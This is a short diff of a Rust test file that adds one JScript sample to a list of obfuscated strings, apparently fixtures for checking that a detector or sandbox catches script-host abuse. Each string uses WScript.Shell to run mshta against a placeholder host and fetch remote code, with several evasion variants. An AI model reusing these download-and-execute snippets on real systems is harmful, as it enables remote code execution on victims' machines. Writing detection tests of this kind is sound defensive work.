@@ -436,6 +436,7 @@ fn the_script_host_runs_jscript() {
             "(function(a,b){a.Run(b)})(new ActiveXObject('WScript.Shell'),['mshta ','http://a.example/3'].join(''))",
             "var o={};o.f=function(x){return x.split('|').map(function(c){return String.fromCharCode(+c)}).join('')};new ActiveXObject('WScript.Shell').Run('mshta http://a.example/'+o.f('52|52'))",
             "try{x.y()}catch(e){new ActiveXObject('WScript.Shell').Run('mshta http://a.example/5')}",
+            "try{throw 'mshta http://a.example/t'}catch(e){new ActiveXObject('WScript.Shell').Run(e)}",
             "/*@cc_on eval('new ActiveXObject(\"WScript.Shell\").Run(\"mshta http://a.example/6\")') @*/",
             "var i=0;while(i<3){i++;if(i==2)continue;new ActiveXObject('WScript.Shell').Run('mshta http://a.example/'+i)}",
             "setTimeout(\"new ActiveXObject('WScript.Shell').Run('mshta http://a.example/8')\",1)",
